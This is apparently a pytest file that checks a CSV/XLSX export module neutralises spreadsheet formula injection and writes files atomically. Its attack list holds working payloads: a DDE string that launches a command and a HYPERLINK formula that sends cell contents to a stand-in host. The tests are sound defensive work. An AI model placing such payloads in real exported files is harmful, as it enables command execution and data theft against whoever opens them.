"""Nothing that we write out can act on whoever opens it."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from neet import outgoing

ATTACKS = [
    "=1+1",
    '=HYPERLINK("http://example.invalid/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\ufeff=1+1",
    "＝1+1",
    "-1e5+A1",
    "'=1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_formula_becomes_text_and_comes_back(text):
    safe = outgoing.neutralised(text)
    assert safe == f"'{text}"
    assert outgoing.restored(safe) == text


@pytest.mark.parametrize(
    "text", ["-5", "+12.50", "-0.5", "12", "-.5", "plain", "O'Neill", "a=b", ""]
)
def test_plain_numbers_and_text_are_left_alone(text):
    assert outgoing.neutralised(text) == text
    assert outgoing.restored(text) == text


@pytest.mark.parametrize("value", [-5, -0.25, Decimal("-1.50"), True, dt.date(2021, 12, 31)])
def test_numbers_and_dates_stay_what_they_are(value):
    assert outgoing.neutralised(value) is value


@given(st.text(alphabet="'=+-@\t\r\n 1a＝.", max_size=8))
def test_what_is_written_out_is_what_comes_back(text):
    safe = outgoing.neutralised(text)
    assert outgoing.restored(safe) == text
    harmless = outgoing.PLAIN_NUMBER.fullmatch(safe) is not None
    assert harmless or not safe.lstrip(" \ufeff").startswith(
        ("=", "+", "-", "@", "\t", "\r", "\n", "＝")
    )


def test_csv_of_every_attack(tmp_path):
    file = tmp_path / "sub" / "out.csv"
    outgoing.write_csv(file, ["Text", "=Number"], [[text, -5] for text in ATTACKS] + [[None, True]])
    assert file.read_bytes().startswith(b"\xef\xbb\xbf"), "or Excel reads names as Windows-1252"
    rows = list(csv.reader(io.StringIO(file.read_bytes().decode("utf-8-sig"), newline="")))
    assert rows[0] == ["Text", "'=Number"]
    assert [row[0] for row in rows[1:-1]] == [f"'{text}" for text in ATTACKS]
    assert {row[1] for row in rows[1:-1]} == {"-5"}
    assert rows[-1] == ["", "true"]
    assert outgoing.csv_text(["a"], [["=1"], [-1]]) == "a\n'=1\n-1\n"
    assert [found.name for found in file.parent.iterdir()] == ["out.csv"], (
        "and nothing half written"
    )


def test_xlsx_of_every_attack(tmp_path):
    file = tmp_path / "out.xlsx"
    rows = [[text, -5, dt.date(2021, 12, 31)] for text in ATTACKS] + [["a\0b", None, "x" * 40_000]]
    outgoing.write_xlsx(file, {"Rejects": (["Text", "Number", "Day"], rows)})
    sheet = openpyxl.load_workbook(file)["Rejects"]
    cells = list(sheet.iter_rows(min_row=2))
    for text, (first, number, day) in zip(ATTACKS, cells[:-1], strict=True):
        assert (first.data_type, first.value.replace("\r", "\n")) == (
            "s", f"'{text}".replace("\r", "\n"),
        )  # fmt: skip
        assert (number.data_type, number.value) == ("n", -5)
        assert day.is_date
    assert (cells[-1][0].value, cells[-1][1].value, len(cells[-1][2].value)) == (
        "a\ufffdb", None, 32_767,
    )  # fmt: skip
    assert not [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


def test_a_write_that_fails_leaves_what_was_there(tmp_path):
    file = tmp_path / "out.csv"
    outgoing.write_csv(file, ["a"], [["before"]])
    before = file.read_bytes()

    def rows():
        yield ["half"]
        raise RuntimeError("the database went away")

    with pytest.raises(RuntimeError):
        outgoing.write_csv(file, ["a"], rows())
    assert file.read_bytes() == before
    assert [found.name for found in tmp_path.iterdir()] == ["out.csv"]
